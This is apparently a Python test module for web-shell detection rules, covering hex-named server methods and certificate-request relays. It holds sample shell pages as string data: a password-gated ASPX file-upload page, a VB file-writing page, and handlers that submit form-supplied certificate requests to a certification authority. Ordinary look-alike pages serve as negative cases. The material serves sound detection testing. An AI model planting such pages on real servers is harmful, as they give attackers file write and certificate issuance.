"""Rules from the thirty-fourth unseen collection: shells met among ordinary pages (issue 14, helper X34).

The collection was gathered by walking the hits of ordinary page lines (``<%@ Page Language="C#" Debug="true" %>``,
``<%@ Import Namespace="System.IO" %>``, ...) rather than shell idioms. On first sight (BENCHMARKS.md, "Unseen shells,
thirty-fourth collection: shells met among ordinary pages") the own rules and the behaviour analysis missed two pages:

- ``EXT_WEBSHELL_Hex_Named_Server_Methods`` (``data/rules/obfuscated_server_code.yar``): an upload page whose server
  methods are all named ``_0x...`` (javascript-obfuscator style) and whose request objects, file stream and script tag
  come back from one-line helpers. The rule matches the naming: five or more C#/VB method declarations named ``_0x...``
  in a server page.
- ``EXT_WEBSHELL_Certificate_Request_Relay`` (``data/rules/key_theft.yar``): a page that submits a certificate request,
  CA and template taken from its form to a certification authority through the ``CertificateAuthority.Request`` COM
  object (created by ProgID) and returns the issued certificate: the caller gets certificates as the server's account.

The shells below are harmless pages in those shapes, written here (names, fields and texts differ from the collected
pages; nothing is run by the tests). The ordinary pages are the closest everyday code: a page whose *client-side*
script is obfuscated (``function _0x...``/``var _0x...``) beside an ordinary server block, a page with hex constants
and ``0x`` in method names, Microsoft's classic-ASP enrolment page shape (``Server.CreateObject``), a page that reads
the CA configuration and a page that fetches an already issued certificate (no ``Submit``).
"""

from __future__ import annotations

from .rule_tables import Page, RuleCase, rule_tables

_HEX = "EXT_WEBSHELL_Hex_Named_Server_Methods"
_CERT = "EXT_WEBSHELL_Certificate_Request_Relay"

HEX_SHELLS: list[Page] = [
    (
        "hex-named-helpers-upload-beside-page",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<script runat="server">\n'
        '    private const string _0xK = "letmein";\n'
        "    private NameValueCollection _0x1A() { return Request.Params; }\n"
        "    private HttpFileCollection _0x1B() { return Request.Files; }\n"
        "    private FileStream _0x1C(string p) { return new FileStream(p, FileMode.Create); }\n"
        "    private string _0x1D(string a, string b) { return Path.Combine(a, b); }\n"
        '    private string _0xP1() { return "PGI+"; }\n    private string _0xP2() { return "b2s8L2I+"; }\n'
        "    protected void Page_Load(object s, EventArgs e)\n    {\n"
        '        if (_0x1A()["key"] != _0xK || _0x1B().Count != 1) return;\n'
        "        var f = _0x1B()[0];\n        byte[] b = new byte[f.ContentLength];\n"
        "        f.InputStream.Read(b, 0, b.Length);\n"
        "        string dir = new FileInfo(Request.PhysicalPath).DirectoryName;\n"
        "        using (var o = _0x1C(_0x1D(dir, Path.GetFileName(f.FileName)))) o.Write(b, 0, b.Length);\n"
        "        Response.Write(Encoding.UTF8.GetString(Convert.FromBase64String(_0xP1() + _0xP2())));\n"
        "    }\n</script>\n",
    ),
    (
        "vb-hex-named-functions",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%@ Import Namespace="System.IO" %>\n<script runat="server">\n'
        "    Function _0xA1() As String\n        Return Request.Form(\"d\")\n    End Function\n"
        "    Function _0xA2() As String\n        Return Request.Form(\"t\")\n    End Function\n"
        "    Function _0xA3(ByVal p As String) As String\n        Return Server.MapPath(p)\n    End Function\n"
        "    Sub _0xA4(ByVal p As String, ByVal t As String)\n        File.WriteAllText(p, t)\n    End Sub\n"
        "    Sub _0xA5()\n        Response.Write(\"ok\")\n    End Sub\n"
        "    Sub Page_Load()\n        If _0xA1() <> \"\" Then _0xA4(_0xA3(_0xA1()), _0xA2()) : _0xA5()\n    End Sub\n"
        "</script>\n",
    ),
]

HEX_ORDINARY: list[Page] = [
    (
        "client-side-obfuscated-script-beside-server-code",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "    protected void Page_Load(object s, EventArgs e) { Title.Text = GetTitle(); }\n"
        '    private string GetTitle() { return "Offers"; }\n</script>\n'
        '<asp:Label ID="Title" runat="server" />\n<script type="text/javascript">\n'
        "var _0x3a1f=['banner','show','hide'];function _0x2b4c(_0x1d2e,_0x4f5a){return _0x3a1f[_0x1d2e-0x0];}\n"
        "function _0x5c6d(_0x7e8f){document.getElementById(_0x2b4c(0x0)).className=_0x7e8f;}\n"
        "function _0x9a0b(){_0x5c6d(_0x2b4c(0x1));}function _0x1c2d(){_0x5c6d(_0x2b4c(0x2));}\n"
        "function _0x3e4f(){setTimeout(_0x1c2d,0x1388);}function _0x5a6b(){_0x9a0b();_0x3e4f();}\n"
        "window.onload=_0x5a6b;\n</script>\n",
    ),
    (
        "hex-constants-and-0x-in-method-names",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "    private const int Mask0x1F = 0x1F;\n"
        "    private static int Parse0xValue(string v) { return Convert.ToInt32(v, 16); }\n"
        "    private static string To0xString(int v) { return \"0x\" + v.ToString(\"X2\"); }\n"
        "    private int Apply0xMask(int v) { return v & Mask0x1F; }\n"
        "    protected void Page_Load(object s, EventArgs e)\n    {\n"
        '        Out.Text = To0xString(Apply0xMask(Parse0xValue(Request.QueryString["v"] ?? "0")));\n    }\n'
        '</script>\n<asp:Label ID="Out" runat="server" />\n',
    ),
]

CERT_SHELLS: list[Page] = [
    (
        "progid-request-object-submits-form-csr",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "    protected void Page_Load(object s, EventArgs e)\n    {\n"
        '        if (Request.HttpMethod != "POST") return;\n'
        '        string req = Request.Form["pkcs10"], ca = Request.Form["ca"], tpl = Request.Form["tpl"];\n'
        '        Type t = Type.GetTypeFromProgID("CertificateAuthority.Request");\n'
        "        dynamic cr = Activator.CreateInstance(t);\n"
        '        int disp = cr.Submit(0, req, "CertificateTemplate:" + tpl, ca);\n'
        "        if (disp == 3) Result.Text = Server.HtmlEncode(cr.GetCertificate(0));\n    }\n"
        '</script>\n<asp:Literal ID="Result" runat="server" />\n',
    ),
    (
        "interop-class-handler-submits-request-body",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Enroll" %>\nusing System.IO;\nusing System.Web;\nusing CERTCLILib;\n\n'
        "public class Enroll : IHttpHandler\n{\n    public bool IsReusable { get { return false; } }\n"
        "    public void ProcessRequest(HttpContext c)\n    {\n"
        "        string csr = new StreamReader(c.Request.InputStream).ReadToEnd();\n"
        "        var r = new CCertRequest();\n"
        '        r.Submit(0, csr, "CertificateTemplate:" + c.Request.QueryString["t"], c.Request.QueryString["ca"]);\n'
        "        c.Response.Write(r.GetCertificate(0));\n    }\n}\n",
    ),
]

CERT_ORDINARY: list[Page] = [
    (
        "classic-asp-enrolment-page-shape",
        ".asp",
        '<%@ Language="VBScript" %>\n<%\nSet oReq = Server.CreateObject("CertificateAuthority.Request")\n'
        'nDisp = oReq.Submit(0, Request.Form("CertRequest"), Request.Form("CertAttrib"), sCAConfig)\n'
        'If nDisp = 3 Then Response.Write "Issued"\n%>\n',
    ),
    (
        "page-reads-ca-configuration",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "    protected void Page_Load(object s, EventArgs e)\n    {\n"
        '        Type t = Type.GetTypeFromProgID("CertificateAuthority.Config");\n'
        "        dynamic cfg = Activator.CreateInstance(t);\n"
        "        CaName.Text = Server.HtmlEncode(cfg.GetConfig(0));\n    }\n"
        '</script>\n<asp:Label ID="CaName" runat="server" />\n',
    ),
    (
        "page-fetches-issued-certificate-without-submit",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "    protected void Page_Load(object s, EventArgs e)\n    {\n"
        '        int id = int.Parse(Request.QueryString["id"] ?? "0");\n'
        '        dynamic cr = Activator.CreateInstance(Type.GetTypeFromProgID("CertificateAuthority.Request"));\n'
        '        if (cr.RetrievePending(id, ConfigurationManager.AppSettings["ca"]) == 3)\n'
        '            Response.Write(cr.GetCertificate(0));\n    }\n</script>\n',
    ),
]

CASES: list[RuleCase] = [(_HEX, HEX_SHELLS, HEX_ORDINARY), (_CERT, CERT_SHELLS, CERT_ORDINARY)]

(
    test_shell_is_found,
    test_ordinary_page_is_not_flagged,
    test_rule_needs_a_server_page,
) = rule_tables(CASES, log_url="/upload/default.aspx")
